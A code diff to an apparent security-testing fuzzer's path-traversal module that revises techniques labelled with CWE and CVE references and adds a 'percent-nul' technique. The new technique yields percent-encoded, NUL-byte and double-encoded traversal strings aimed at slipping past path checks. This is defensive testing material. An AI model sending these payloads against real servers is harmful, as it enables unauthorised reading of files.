@@ -2,7 +2,7 @@
 
 from collections.abc import Iterator
 
-from capfuzz.attacks.techniques.compose import FOLDER, base, late, leaf, straight, way, ways
+from capfuzz.attacks.techniques.compose import FOLDER, base, late, straight, way, ways
 from capfuzz.attacks.techniques.registry import Kind, technique
 
 _DECODES = "percent-decodes the path after the check (CWE-180)"
@@ -66,7 +66,7 @@ def percent_dots_and_slash(root: str, target: str) -> Iterator[str]:
 @technique(
     "percent-backslash",
     kind=Kind.PATH,
-    group="decoding-backslash",
+    group="decoding",
     cwe="CWE-177",
     needs=r"percent-decodes after the check and takes \ for a separator",
     refs=("CVE-2007-0450",),
@@ -87,13 +87,12 @@ def percent_everything(root: str, target: str) -> Iterator[str]:
     """Encode every character after the root, letters too."""
     ups, down = way(root, target)
     yield f"{base(root)}/{percent('../' * ups + '/'.join(down))}"
-    yield f"{base(root)}/{'../' * ups}{'/'.join(map(percent, down))}"
 
 
 @technique(
     "percent-absolute",
     kind=Kind.PATH,
-    group="decoding-absolute",
+    group="decoding",
     cwe="CWE-36",
     needs="joins the decoded rest to the root with a join that lets an absolute path win",
     refs=("CVE-2025-47273",),
@@ -119,17 +118,19 @@ def percent_folder_dots(root: str, target: str) -> Iterator[str]:
 
 
 @technique(
-    "percent-root",
+    "percent-nul",
     kind=Kind.PATH,
-    group="decoding-root",
-    cwe="CWE-177",
-    needs="decodes before it compares with the root and opens what was not decoded, or vice versa",
+    group="decoding",
+    cwe="CWE-158",
+    needs="percent-decodes after the check and hands the result to code that stops at NUL",
 )
-def percent_root(root: str, target: str) -> Iterator[str]:
-    """Encode a letter of the root itself before the climb, or of what follows its name."""
-    name = base(root)
-    yield straight(f"{name[:-1]}{percent(name[-1])}", target)
-    yield f"{name}{percent('s')}hop/{leaf(target)}"
+def percent_nul(root: str, target: str) -> Iterator[str]:
+    """Encode NUL before a harmless ending, with the climb plain and encoded."""
+    yield f"{straight(root, target, '%2e%2e/')}%00.txt"
+    yield f"{late(root, target, '%2e%2e/')}%00"
+    yield f"{straight(root, target, '.%00./')}"
+    yield f"{base(root)}/data.txt%00/%2e%2e/%2e%2e{target}"
+    yield f"{straight(root, target, '%252e%252e/')}%2500.txt"
 
 
 def percent(text: str) -> str:
